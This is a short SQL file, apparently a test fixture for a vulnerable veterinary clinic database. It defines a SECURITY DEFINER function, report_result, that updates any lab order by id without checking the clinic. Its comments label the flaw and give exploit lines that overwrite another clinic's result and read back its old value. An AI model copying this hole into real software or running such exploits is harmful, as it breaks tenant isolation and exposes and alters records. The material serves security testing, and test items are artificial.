-- The laboratory reports by the id of an order: anyone writes a result into the order of any clinic.
-- about: report_result, lab_orders
-- as: hf_veterinary_app
-- exploit: SET vet.clinic_id = 'aa000000-0000-0000-0000-000000000001';
-- exploit: SELECT 'was ' || vet.report_result('bb000000-0000-0000-0000-000000000005', '{}');
-- shows: lab-secret
CREATE FUNCTION vet.report_result(p_order uuid, p_result jsonb) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = vet, pg_temp AS $$
DECLARE
  v_old jsonb;
BEGIN
  SELECT o.result INTO v_old FROM vet.lab_orders o WHERE o.id = p_order FOR UPDATE;
  UPDATE vet.lab_orders SET result = p_result, state = 'done' WHERE id = p_order;
  RETURN v_old::text;
END $$;
GRANT EXECUTE ON FUNCTION vet.report_result(uuid, jsonb) TO hf_veterinary_lab;
